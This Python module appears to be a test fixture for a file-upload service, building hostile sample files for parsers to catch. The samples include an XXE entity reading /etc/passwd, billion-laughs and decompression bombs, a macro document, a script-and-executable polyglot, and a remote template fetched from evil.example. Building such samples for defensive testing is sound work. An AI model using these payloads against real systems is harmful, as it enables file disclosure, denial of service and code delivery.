"""The upload zoo: files made to do harm, or to be told apart from them; every beast is made here by code."""

import struct
import zipfile
import zlib
from email.message import EmailMessage
from email.policy import SMTP
from io import BytesIO

from PIL import Image

PARIS = {1: "N", 2: (48.0, 51.0, 24.0), 3: "E", 4: (2.0, 21.0, 7.0)}
TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def picture(kind: str = "JPEG", size: tuple[int, int] = (64, 48), **more: object) -> bytes:
    written = BytesIO()
    Image.new("RGB", size, "brown").save(written, kind, **more)
    return written.getvalue()


def photo_with_place() -> bytes:
    """A JPEG that tells where it was taken, with what, and carries words."""
    exif = Image.Exif()
    exif[0x010F], exif[0x0110] = "Camera of Beijing", "Spy 3"
    exif.get_ifd(0x8825).update(PARIS)
    return picture(exif=exif.tobytes(), comment=b"secret words")


def scan_of_pages(pages: int) -> bytes:
    written = BytesIO()
    first, *others = [Image.new("1", (80, 60), number % 2) for number in range(pages)]
    first.save(written, "TIFF", save_all=True, append_images=others)
    return written.getvalue()


def bomb_picture(side: int = 40_000) -> bytes:
    """A PNG of a few kilobytes that says it is `side` pixels wide and high."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes(side // 8 + 1) * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def polyglot() -> bytes:
    """A JPEG that is also a page with a script and a bundle with a program."""
    bundle = BytesIO()
    with zipfile.ZipFile(bundle, "w") as packed:
        packed.writestr("harm.exe", b"MZ harm")
    return picture(comment=b"<script>alert(1)</script>") + b"<html><script>alert(1)</script></html>" + bundle.getvalue()


def docx(
    *paragraphs: str, parts: dict[str, bytes] | None = None, main: str = MAIN, doctype: str = "", body: str = ""
) -> bytes:
    """A document of an office program with these paragraphs, and further parts by their names."""
    said = "".join(f"<w:p><w:r><w:t>{each}</w:t></w:r></w:p>" for each in paragraphs) + body
    types = f'<Override PartName="/word/document.xml" ContentType="{main}"/>'
    files = {
        "[Content_Types].xml": TYPES.format(types).encode(),
        "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{W}"><w:body>{said}</w:body>'
        "</w:document>".encode(),
        **(parts or {}),
    }
    return package(files)


def package(files: dict[str, bytes]) -> bytes:
    written = BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in files.items():
            packed.writestr(name, content)
    return written.getvalue()


def docx_bomb() -> bytes:
    return docx("small", parts={f"word/media/image{n}.png": bytes(30 * 1024**2) for n in range(8)})


def docx_with_entity() -> bytes:
    return docx("&secret;", doctype='<!DOCTYPE d [<!ENTITY secret SYSTEM "file:///etc/passwd">]>')


def docx_with_laughs() -> bytes:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
    return docx("&l9;", doctype=f"<!DOCTYPE d [{laughs}]>")


def docx_with_macros() -> bytes:
    return docx("run me", main=MACROS, parts={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"})


def docx_that_loads(mode: str = 'TargetMode="External"', encoding: str = "utf-8") -> bytes:
    """A document with a template elsewhere; `mode` is how its link says that it is elsewhere."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = (
        f'<Relationships xmlns:z="z"><Relationship Id="r1" {mode} Type="{kind}/attachedTemplate" '
        'Target="http://evil.example/harm.dotm"/>'
        f'<Relationship Id="r2" Type="{kind}/hyperlink" Target="http://city.example/" TargetMode="External"/>'
        "</Relationships>"
    )
    return docx("letter", parts={"word/_rels/settings.xml.rels": links.encode(encoding)})


def docx_blown_up() -> bytes:
    """A document of a few kilobytes with a part of 50 MB that nobody looks at."""
    return docx("small", parts={"word/embeddings/1.bin": bytes(50 * 1024**2)})


def docx_with_field(*pieces: str) -> bytes:
    """A document with a field: "{" begins one, "|" parts what it does from what it shows, "}" ends it."""
    steps = {"{": "begin", "|": "separate", "}": "end"}
    runs = [f'<w:fldChar w:fldCharType="{steps[each]}"/>' if each in steps else f"<w:instrText>{each}</w:instrText>"
            if each.isupper() or each.startswith(" ") else f"<w:t>{each}</w:t>" for each in pieces]  # fmt: skip
    return docx("letter", body="<w:p>" + "".join(f"<w:r>{run}</w:r>" for run in runs) + "</w:p>")


def docx_with_twins() -> bytes:
    """A document that says its words twice: in a box as new programs read it and as old ones do, and moved."""
    box = "<w:p><w:r><w:t>in a box</w:t></w:r></w:p>"
    twice = (
        '<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f"<mc:Choice><w:txbxContent>{box}</w:txbxContent></mc:Choice>"
        f"<mc:Fallback><w:pict><w:txbxContent>{box}</w:txbxContent></w:pict></mc:Fallback>"
        "</mc:AlternateContent></w:r></w:p>"
    )
    moved = "".join(f"<w:p><w:{way}><w:r><w:t>moved</w:t></w:r></w:{way}></w:p>" for way in ("moveFrom", "moveTo"))
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    framed = f"<w:sdt><w:sdtContent>{cell.format('49 boxes')}</w:sdtContent></w:sdt>"
    table = f"<w:tbl><w:tr>{cell.format('masks')}{framed}</w:tr></w:tbl>"
    return docx("once", body=twice + moved + table)


def sheet(parts: dict[str, bytes] | None = None) -> bytes:
    types = {"[Content_Types].xml": TYPES.format("").encode(), "xl/workbook.xml": b"<workbook/>"}
    return package(types | (parts or {}))


def ods(content: str = "<x/>", parts: dict[str, bytes] | None = None) -> bytes:
    """An open table; its manifest has a document type, as old programs write it."""
    spaces = " ".join(f'xmlns:{name}="urn:{name}"' for name in ("office", "table", "text", "draw", "xlink"))
    manifest = b'<!DOCTYPE manifest PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><manifest/>'
    files = {
        "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": f"<office:document-content {spaces}>{content}</office:document-content>".encode(),
        "META-INF/manifest.xml": manifest, "Configurations2/accelerator/current.xml": b"",
    }  # fmt: skip
    return package(files | (parts or {}))


def mail(
    text: str = "", *, page: str = "", subject: str = "Letter", sender: str = "office@seoul.example",
    attached: list[tuple[str, bytes]] | None = None, forwarded: bytes | None = None,
) -> bytes:  # fmt: skip
    """An e-mail as a program of mail writes it."""
    message = EmailMessage()
    message["From"], message["To"], message["Subject"] = sender, "fao@beijing.example", subject
    message["Date"] = "Tue, 17 Mar 2020 09:30:00 +0900"
    message["Message-ID"] = "<1@seoul.example>"
    if text or not page:
        message.set_content(text)
    if page:
        (message.add_alternative if text else message.set_content)(page, subtype="html")
    for name, content in attached or []:
        message.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    if forwarded is not None:
        import email

        message.add_attachment(email.message_from_bytes(forwarded, policy=SMTP))
    return message.as_bytes(policy=SMTP)


def mail_nested(deep: int) -> bytes:
    inner = mail("at the bottom", subject="0")
    for number in range(1, deep):
        inner = mail(f"level {number}", subject=str(number), forwarded=inner)
    return inner


def mail_of_bags(deep: int) -> bytes:
    """Bags of parts in bags of parts."""
    head = "From: a@b.example\nTo: c@d.example\nSubject: bags\nMIME-Version: 1.0\n"
    body = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(deep))
    return (head + body + "Content-Type: text/plain\n\nwords\n").encode()
